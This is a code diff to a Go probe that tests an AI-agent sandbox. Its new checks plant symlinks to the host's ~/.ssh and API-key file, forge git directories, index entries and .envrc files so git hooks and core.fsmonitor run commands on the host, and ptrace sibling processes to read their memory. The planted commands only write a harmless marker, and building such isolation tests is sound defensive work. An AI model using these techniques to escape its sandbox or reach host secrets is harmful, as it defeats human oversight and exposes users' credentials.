@@ -24,6 +24,8 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"crypto/sha1"
+	"encoding/binary"
 	"encoding/json"
 	"errors"
 	"flag"
@@ -42,6 +44,7 @@ import (
 	"sync"
 	"syscall"
 	"time"
+	"unsafe"
 )
 
 // Result is what one check found.
@@ -72,6 +75,10 @@ type check struct {
 	name    string
 	run     func(ctx context.Context, p *params) Result
 	timeout time.Duration // 0: the default
+	// explicit checks are not part of "all": they change the project or
+	// the home when they succeed (the plants), or need another session
+	// running beside the probe; they run only when named.
+	explicit bool
 }
 
 func checks() []check {
@@ -90,6 +97,19 @@ func checks() []check {
 		{name: "env-leak", run: checkEnvLeak},
 		// Last: it disturbs every other process in the sandbox for a moment.
 		{name: "fork-bomb", run: checkForkBomb, timeout: 90 * time.Second},
+
+		// Phase one of the two-phase attacks: plant what the host reads,
+		// mounts or runs later (see "plants" below).
+		{name: "plant-hooks-symlink", run: checkPlantHooksSymlink, explicit: true},
+		{name: "plant-config-symlink", run: checkPlantConfigSymlink, explicit: true},
+		{name: "plant-git-symlink", run: checkPlantGitSymlink, explicit: true},
+		{name: "plant-renamed-git", run: checkPlantRenamedGit, explicit: true},
+		{name: "plant-git-file", run: checkPlantGitFile, explicit: true},
+		{name: "plant-commondir", run: checkPlantCommondir, explicit: true},
+		{name: "plant-home-links", run: checkPlantHomeLinks, explicit: true},
+		{name: "plant-nested-repo", run: checkPlantNestedRepo, explicit: true},
+		{name: "plant-index-gitlink", run: checkPlantIndexGitlink, explicit: true},
+		{name: "ptrace-sibling", run: checkPtraceSibling, explicit: true},
 	}
 }
 
@@ -133,9 +153,13 @@ func run(args []string, stdout, stderr io.Writer) int {
 	forkMax := fl.Int("fork-max", atoiOr(env("FORK_MAX", ""), 5000), "fork-bomb: stop after this many children")
 	timeout := fl.Duration("timeout", 30*time.Second, "time limit of each check")
 	fl.Usage = func() {
-		fmt.Fprintln(stderr, "usage: probe [flags] CHECK... | all\nchecks:")
+		fmt.Fprintln(stderr, "usage: probe [flags] CHECK... | all\nchecks (* = only when named, not in all):")
 		for _, c := range checks() {
-			fmt.Fprintln(stderr, "  "+c.name)
+			star := ""
+			if c.explicit {
+				star = " *"
+			}
+			fmt.Fprintln(stderr, "  "+c.name+star)
 		}
 		fl.PrintDefaults()
 	}
@@ -156,7 +180,12 @@ func run(args []string, stdout, stderr io.Writer) int {
 	var selected []check
 	for _, w := range want {
 		if w == "all" {
-			selected = all
+			selected = nil
+			for _, c := range all {
+				if !c.explicit {
+					selected = append(selected, c)
+				}
+			}
 			break
 		}
 		found := false
@@ -644,6 +673,7 @@ type procInfo struct {
 	comm    string
 	cgroup  string
 	pgid    int
+	ppid    int
 }
 
 func listProcs() []procInfo {
@@ -670,6 +700,7 @@ func listProcs() []procInfo {
 			if i := bytes.LastIndexByte(b, ')'); i >= 0 {
 				f := strings.Fields(string(b[i+1:]))
 				if len(f) > 2 {
+					pi.ppid, _ = strconv.Atoi(f[1])
 					pi.pgid, _ = strconv.Atoi(f[2])
 				}
 			}
@@ -1176,6 +1207,485 @@ func forkBombChild(args []string) int {
 	}
 	fmt.Fprintln(w, "cap reached")
 	return 0
+}
+
+// ---------------------------------------------------------------------------
+// plants: phase one of the two-phase attacks
+//
+// An agent writes the project (with its .git) and its home, and the host
+// later reads, mounts or runs what it finds there. Each plant-* check
+// tries to leave behind something the host would obey, and succeeds when
+// the plant is in place after it ran: the tests then launch again and run
+// git on the host (phase two). A planted command (a git hook,
+// core.fsmonitor, .envrc) appends a line to <project>/.planted-ran, so a
+// test that finds that file after running git on the host has seen a
+// plant run there. None of these checks is in "all".
+
+// plantMarker is the file, below the project, that planted commands write.
+const plantMarker = ".planted-ran"
+
+// markerCmd is a shell command that records, in the project's marker
+// file, that the plant named what ran.
+func markerCmd(p *params, what string) string {
+	return "echo planted-" + what + " >> '" + filepath.Join(p.project, plantMarker) + "'"
+}
+
+// writeGitDir makes dir a git dir that runs the marker command from git
+// on the host: core.fsmonitor (git status, git commit) and a pre-commit
+// hook. HEAD, objects and refs are copied from the git dir from, when
+// given, so that the result is the same repository to the user.
+func writeGitDir(p *params, dir, from, what string) error {
+	for _, sub := range []string{"objects", "refs/heads", "refs/tags", "hooks"} {
+		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
+			return err
+		}
+	}
+	head := "ref: refs/heads/main\n"
+	if from != "" {
+		if b, err := os.ReadFile(filepath.Join(from, "HEAD")); err == nil {
+			head = string(b)
+		}
+		for _, sub := range []string{"objects", "refs"} {
+			if err := copyTree(filepath.Join(from, sub), filepath.Join(dir, sub)); err != nil {
+				return err
+			}
+		}
+	}
+	files := []struct {
+		rel, data string
+		mode      os.FileMode
+	}{
+		{"HEAD", head, 0o644},
+		{"config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"" + markerCmd(p, what+"-fsmonitor") + "\"\n", 0o644},
+		{"hooks/pre-commit", "#!/bin/sh\n" + markerCmd(p, what+"-pre-commit") + "\n", 0o755},
+	}
+	for _, f := range files {
+		if err := os.WriteFile(filepath.Join(dir, f.rel), []byte(f.data), f.mode); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// copyTree copies the folders and regular files below src into dst
+// (symbolic links are left out).
+func copyTree(src, dst string) error {
+	return filepath.WalkDir(src, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		rel, _ := filepath.Rel(src, path)
+		to := filepath.Join(dst, rel)
+		switch {
+		case d.IsDir():
+			return os.MkdirAll(to, 0o755)
+		case d.Type().IsRegular():
+			data, err := os.ReadFile(path)
+			if err != nil {
+				return err
+			}
+			return os.WriteFile(to, data, 0o644)
+		}
+		return nil
+	})
+}
+
+// moveAside gets path out of the way as an agent would: rename it, else
+// remove it (with what it holds, when all is set). It notes what the
+// kernel said and reports whether path is gone.
+func moveAside(n *notes, path string, all bool) bool {
+	aside := fmt.Sprintf("%s.probe-%d", path, os.Getpid())
+	err := os.Rename(path, aside)
+	if err == nil {
+		n.add("renamed %s to %s", path, aside)
+		return true
+	}
+	n.add("rename %s: %s", path, errText(err))
+	rm := os.Remove
+	if all {
+		rm = os.RemoveAll
+	}
+	if err := rm(path); err != nil {
+		n.add("remove %s: %s", path, errText(err))
+		return false
+	}
+	n.add("removed %s", path)
+	return true
+}
+
+// plantLink makes link a symbolic link to target, and records a success
+// when link is one afterwards.
+func plantLink(n *notes, target, link string) {
+	if err := os.Symlink(target, link); err != nil {
+		n.add("symlink %s -> %s: %s", link, target, errText(err))
+	}
+	if fi, err := os.Lstat(link); err == nil && fi.Mode()&fs.ModeSymlink != 0 {
+		n.success("%s is a symbolic link to %s", link, target)
+		n.fact("link", link)
+	}
+}
+
+// gitDirOf is the project's .git, or a reason to skip.
+func gitDirOf(p *params) (string, *Result) {
+	if p.project == "" {
+		r := skipped("no -project given")
+		return "", &r
+	}
+	git := filepath.Join(p.project, ".git")
+	if _, err := os.Lstat(git); err != nil {
+		r := skipped(git + ": " + errText(err))
+		return "", &r
+	}
+	return git, nil
+}
+
+// checkPlantHooksSymlink replaces .git/hooks by a link to the host
+// user's ~/.ssh: the user's git would run ~/.ssh/<hook>, and ai-sandbox
+// would mount whatever the link points to.
+func checkPlantHooksSymlink(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	if p.hostHome == "" {
+		return skipped("no -host-home given")
+	}
+	var n notes
+	hooks := filepath.Join(git, "hooks")
+	moveAside(&n, hooks, true)
+	plantLink(&n, filepath.Join(p.hostHome, ".ssh"), hooks)
+	return n.result()
+}
+
+// checkPlantConfigSymlink replaces .git/config by a link to the host's
+// ~/.ai-sandbox/env (the API keys).
+func checkPlantConfigSymlink(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	if p.hostHome == "" {
+		return skipped("no -host-home given")
+	}
+	var n notes
+	cfg := filepath.Join(git, "config")
+	moveAside(&n, cfg, false)
+	plantLink(&n, filepath.Join(p.hostHome, ".ai-sandbox", "env"), cfg)
+	return n.result()
+}
+
+// checkPlantGitSymlink makes .git a link to a git dir of the agent's
+// (in the project) whose config and hooks run the marker command.
+func checkPlantGitSymlink(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	var n notes
+	evil := filepath.Join(p.project, ".planted-git-symlink")
+	if err := writeGitDir(p, evil, git, "git-symlink"); err != nil {
+		n.add("make the planted git dir %s: %s", evil, errText(err))
+	}
+	moveAside(&n, git, false)
+	plantLink(&n, evil, git)
+	return n.result()
+}
+
+// checkPlantRenamedGit renames .git to .git-old and makes a new .git
+// (HEAD, objects and refs copied) whose config and hooks run the marker
+// command: to the user it is the same repository.
+func checkPlantRenamedGit(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	var n notes
+	old := filepath.Join(p.project, ".git-old")
+	if err := os.Rename(git, old); err != nil {
+		n.add("rename %s to %s: %s", git, old, errText(err))
+		return n.result()
+	}
+	n.add("renamed %s to %s", git, old)
+	if err := writeGitDir(p, git, old, "renamed-git"); err != nil {
+		n.add("make a new %s: %s", git, errText(err))
+	}
+	if data, err := os.ReadFile(filepath.Join(git, "config")); err == nil && strings.Contains(string(data), plantMarker) {
+		n.success("%s is a new git dir whose config and pre-commit hook run a planted command", git)
+	}
+	return n.result()
+}
+
+// checkPlantGitFile replaces .git by a "gitdir:" file that sends git to
+// a git dir of the agent's in the project.
+func checkPlantGitFile(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	var n notes
+	evil := filepath.Join(p.project, ".planted-git-file")
+	if err := writeGitDir(p, evil, git, "git-file"); err != nil {
+		n.add("make the planted git dir %s: %s", evil, errText(err))
+	}
+	moveAside(&n, git, false)
+	if err := os.WriteFile(git, []byte("gitdir: "+evil+"\n"), 0o644); err != nil {
+		n.add("write %s: %s", git, errText(err))
+	}
+	if fi, err := os.Lstat(git); err == nil && fi.Mode().IsRegular() {
+		n.success("%s is a file sending git to %s", git, evil)
+	}
+	return n.result()
+}
+
+// checkPlantCommondir builds a second git dir in the project and points
+// .git/commondir at it: git then takes its config (core.fsmonitor) and
+// hooks from there.
+func checkPlantCommondir(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	var n notes
+	evil := filepath.Join(p.project, ".planted-commondir")
+	if err := writeGitDir(p, evil, git, "commondir"); err != nil {
+		n.add("make the planted git dir %s: %s", evil, errText(err))
+	}
+	cd := filepath.Join(git, "commondir")
+	data := []byte(evil + "\n")
+	if err := os.WriteFile(cd, data, 0o644); err != nil {
+		n.add("write %s: %s", cd, errText(err))
+		tmp := filepath.Join(git, fmt.Sprintf(".commondir.probe-%d", os.Getpid()))
+		if err := os.WriteFile(tmp, data, 0o644); err != nil {
+			n.add("write %s: %s", tmp, errText(err))
+		} else if err := os.Rename(tmp, cd); err != nil {
+			_ = os.Remove(tmp)
+			n.add("rename over %s: %s", cd, errText(err))
+		}
+	}
+	if got, err := os.ReadFile(cd); err == nil && strings.TrimSpace(string(got)) == evil {
+		n.success("%s sends git to %s", cd, evil)
+	} else {
+		n.add("%s holds %q (%s)", cd, strings.TrimSpace(string(got)), errText(err))
+	}
+	return n.result()
+}
+
+// checkPlantHomeLinks plants links in the agent's home that the host
+// later follows if it is careless: Claude Code's skills folder (where
+// ai-sandbox installs the bundled skills) to the other workspace, and its
+// login file (which ai-sandbox copies to the tool's login store) to the
+// host user's SSH key. The home is the agent's to write: these plants
+// succeed; what matters is what the host does with them.
+func checkPlantHomeLinks(ctx context.Context, p *params) Result {
+	if len(p.others) == 0 || len(p.secrets) == 0 {
+		return skipped("needs -other and -secrets")
+	}
+	home := os.Getenv("HOME")
+	if home == "" {
+		home = "/home/agent"
+	}
+	var n notes
+	claude := filepath.Join(home, ".claude")
+	if err := os.MkdirAll(claude, 0o700); err != nil {
+		n.add("mkdir %s: %s", claude, errText(err))
+	}
+	links := []struct{ link, target string }{
+		{filepath.Join(claude, "skills"), p.others[0]},
+		{filepath.Join(claude, ".credentials.json"), p.secrets[0]},
+	}
+	for _, l := range links {
+		if _, err := os.Lstat(l.link); err == nil {
+			moveAside(&n, l.link, true)
+		}
+		plantLink(&n, l.target, l.link)
+	}
+	return n.result()
+}
+
+// checkPlantNestedRepo writes a repository by hand inside the project
+// (nested-repo/.git, whose config and hooks run the marker command) and
+// an .envrc that runs it: nothing in a sandbox can prevent these, the
+// host is only warned when the session ends.
+func checkPlantNestedRepo(ctx context.Context, p *params) Result {
+	if p.project == "" {
+		return skipped("no -project given")
+	}
+	var n notes
+	nested := filepath.Join(p.project, "nested-repo", ".git")
+	if err := writeGitDir(p, nested, "", "nested-repo"); err != nil {
+		n.add("make %s: %s", nested, errText(err))
+	} else {
+		n.success("wrote the repository %s", nested)
+	}
+	envrc := filepath.Join(p.project, ".envrc")
+	if err := os.WriteFile(envrc, []byte(markerCmd(p, "envrc")+"\n"), 0o644); err != nil {
+		n.add("write %s: %s", envrc, errText(err))
+	} else {
+		n.success("wrote %s", envrc)
+	}
+	return n.result()
+}
+
+// checkPlantIndexGitlink writes a repository inside the project
+// (gitlinked/.git, whose config runs the marker command) and records it
+// as a submodule in the project's own index (.git/index, which git in
+// the sandbox must be able to write): the user's `git status` in the
+// project then runs `git status` in gitlinked, which obeys its
+// core.fsmonitor.
+func checkPlantIndexGitlink(ctx context.Context, p *params) Result {
+	git, skip := gitDirOf(p)
+	if skip != nil {
+		return *skip
+	}
+	var n notes
+	const sub = "gitlinked"
+	nested := filepath.Join(p.project, sub, ".git")
+	if err := writeGitDir(p, nested, "", "index-gitlink"); err != nil {
+		n.add("make %s: %s", nested, errText(err))
+		return n.result()
+	}
+	n.add("wrote the repository %s", nested)
+	index, lock := filepath.Join(git, "index"), filepath.Join(git, "index.lock")
+	data := gitlinkIndex(sub)
+	if err := os.WriteFile(lock, data, 0o644); err != nil {
+		n.add("write %s: %s", lock, errText(err))
+	} else if err := os.Rename(lock, index); err != nil {
+		_ = os.Remove(lock)
+		n.add("rename %s to %s: %s", lock, index, errText(err))
+	}
+	if got, err := os.ReadFile(index); err == nil && bytes.Equal(got, data) {
+		n.success("%s records %s as a submodule", index, sub)
+	}
+	return n.result()
+}
+
+// gitlinkIndex is a git index (version 2) holding one entry: a gitlink
+// (a submodule, mode 160000) at path.
+func gitlinkIndex(path string) []byte {
+	var b bytes.Buffer
+	be := func(v uint32) { _ = binary.Write(&b, binary.BigEndian, v) }
+	b.WriteString("DIRC")
+	be(2) // version
+	be(1) // entries
+	for i := 0; i < 6; i++ {
+		be(0) // ctime, mtime (seconds, nanoseconds), dev, ino
+	}
+	be(0o160000) // mode: gitlink
+	for i := 0; i < 3; i++ {
+		be(0) // uid, gid, size
+	}
+	b.Write(bytes.Repeat([]byte{0x11}, 20)) // the commit it records: need not exist
+	_ = binary.Write(&b, binary.BigEndian, uint16(len(path)))
+	b.WriteString(path)
+	b.Write(make([]byte, 8-(62+len(path))%8)) // 1 to 8 NULs: entries end on 8 bytes
+	sum := sha1.Sum(b.Bytes())
+	b.Write(sum[:])
+	return b.Bytes()
+}
+
+// ---------------------------------------------------------------------------
+// ptrace-sibling
+
+// checkPtraceSibling attaches with ptrace to, and reads with
+// process_vm_readv the memory of, the processes of the other sessions in
+// the same sandbox (same cgroup; not the probe, its session's ancestors
+// or its children, not PID 1, the keeper or a health check). Another
+// session is another terminal of the same agent, or another agent's
+// helper: reading its memory reads its secrets.
+func checkPtraceSibling(ctx context.Context, p *params) Result {
+	var n notes
+	me := os.Getpid()
+	self, _ := os.ReadFile("/proc/self/cgroup")
+	procs := listProcs()
+	byPid := map[int]procInfo{}
+	for _, pi := range procs {
+		byPid[pi.pid] = pi
+	}
+	own := map[int]bool{1: true}
+	for pid, i := me, 0; pid > 0 && i < 64; pid, i = byPid[pid].ppid, i+1 {
+		own[pid] = true // the probe and its session's ancestors
+	}
+	descends := func(pid int, from func(procInfo) bool) bool {
+		for i := 0; pid > 1 && i < 64; pid, i = byPid[pid].ppid, i+1 {
+			if from(byPid[pid]) {
+				return true
+			}
+		}
+		return false
+	}
+	mine := func(pi procInfo) bool { return pi.pid == me }
+	keeper := func(pi procInfo) bool {
+		return strings.Contains(pi.cmdline, "ai-sandbox-keeper") || strings.Contains(pi.cmdline, "ai-sandbox-health")
+	}
+	var targets []procInfo
+	for _, pi := range procs {
+		if own[pi.pid] || outside(pi, string(self)) || descends(pi.pid, mine) || descends(pi.pid, keeper) {
+			continue
+		}
+		targets = append(targets, pi)
+	}
+	n.fact("targets", strconv.Itoa(len(targets)))
+	if len(targets) == 0 {
+		n.add("no other session's process is in the sandbox")
+	}
+	if len(targets) > 5 {
+		targets = targets[:5]
+	}
+	for _, pi := range targets {
+		what := fmt.Sprintf("pid %d (%s)", pi.pid, pi.cmdline)
+		if err := ptraceAttachDetach(pi.pid); err == nil {
+			n.success("ptrace(PTRACE_ATTACH) to %s", what)
+		} else {
+			n.add("ptrace(PTRACE_ATTACH) to %s: %s", what, errText(err))
+		}
+		if addr, err := vmRead(pi.pid); err == nil {
+			n.success("process_vm_readv read 16 bytes at %#x of %s", addr, what)
+		} else {
+			n.add("process_vm_readv of %s: %s", what, errText(err))
+		}
+	}
+	return n.result()
+}
+
+// vmBuf receives what vmRead reads (a global: the kernel writes to it).
+var vmBuf [16]byte
+
+// iovec is struct iovec of a 64-bit kernel.
+type iovec struct{ base, len uintptr }
+
+// vmRead reads 16 bytes of pid's first readable mapping with
+// process_vm_readv, and returns the address.
+func vmRead(pid int) (uintptr, error) {
+	nr := map[string]uintptr{"amd64": 310, "arm64": 270}[runtime.GOARCH]
+	if nr == 0 {
+		return 0, fmt.Errorf("process_vm_readv: unknown on %s", runtime.GOARCH)
+	}
+	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
+	if err != nil {
+		return 0, fmt.Errorf("its memory map: %w", err)
+	}
+	var addr uintptr
+	for _, line := range strings.Split(string(maps), "\n") {
+		f := strings.Fields(line)
+		if len(f) > 1 && strings.HasPrefix(f[1], "r") {
+			start, _, _ := strings.Cut(f[0], "-")
+			v, err := strconv.ParseUint(start, 16, 64)
+			if err == nil {
+				addr = uintptr(v)
+				break
+			}
+		}
+	}
+	if addr == 0 {
+		return 0, errors.New("no readable mapping")
+	}
+	local := iovec{uintptr(unsafe.Pointer(&vmBuf[0])), uintptr(len(vmBuf))}
+	remote := iovec{addr, uintptr(len(vmBuf))}
+	_, _, errno := syscall.Syscall6(nr, uintptr(pid), uintptr(unsafe.Pointer(&local)), 1, uintptr(unsafe.Pointer(&remote)), 1, 0)
+	if errno != 0 {
+		return addr, errno
+	}
+	return addr, nil
 }
 
 // ---------------------------------------------------------------------------
